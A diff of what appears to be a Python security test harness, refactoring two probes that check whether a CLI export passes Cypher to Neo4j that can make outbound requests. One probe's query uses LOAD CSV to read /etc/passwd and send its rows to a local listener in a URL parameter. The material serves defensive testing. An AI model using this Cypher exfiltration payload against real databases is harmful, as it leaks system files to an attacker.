@@ -148,30 +148,25 @@ def _neo4j_up():
 
 @probe
 def cypher_load_csv_exfiltration(tmp):
-    _neo4j_up()
-    listener = _Listener()
-    try:
-        query = ("LOAD CSV FROM 'file:///etc/passwd' AS row WITH row LIMIT 2 LOAD CSV FROM "
-                 f"'http://127.0.0.1:{listener.port}/p.csv?leak='+replace(row[0],' ','_') AS x WITH x LIMIT 1 "
-                 "MATCH (a) RETURN a LIMIT 1")
-        rc, out, err = cli("export", "--lake", tmp / "lake", "--out", tmp / "out", "--neo4j", NEO4J,
-                           "--cypher", query)
-    finally:
-        listener.close()
-    if listener.hits:
-        return "silent"
-    return ended(rc, err, ok_when_zero=False)
+    return _export_calling_out(tmp, lambda port: (
+        "LOAD CSV FROM 'file:///etc/passwd' AS row WITH row LIMIT 2 LOAD CSV FROM "
+        f"'http://127.0.0.1:{port}/p.csv?leak='+replace(row[0],' ','_') AS x WITH x LIMIT 1 "
+        "MATCH (a) RETURN a LIMIT 1"))
 
 
 @probe
 def cypher_load_csv_http(tmp):
+    return _export_calling_out(tmp, lambda port: (
+        f"LOAD CSV FROM 'http://127.0.0.1:{port}/x.csv' AS row WITH row LIMIT 1 MATCH (a) RETURN a LIMIT 1"))
+
+
+def _export_calling_out(tmp, query_for_port):
+    """An export whose Cypher tries to reach a local listener: "silent" if it got through."""
     _neo4j_up()
     listener = _Listener()
     try:
-        query = (f"LOAD CSV FROM 'http://127.0.0.1:{listener.port}/x.csv' AS row WITH row LIMIT 1 "
-                 "MATCH (a) RETURN a LIMIT 1")
         rc, out, err = cli("export", "--lake", tmp / "lake", "--out", tmp / "out", "--neo4j", NEO4J,
-                           "--cypher", query)
+                           "--cypher", query_for_port(listener.port))
     finally:
         listener.close()
     if listener.hits:
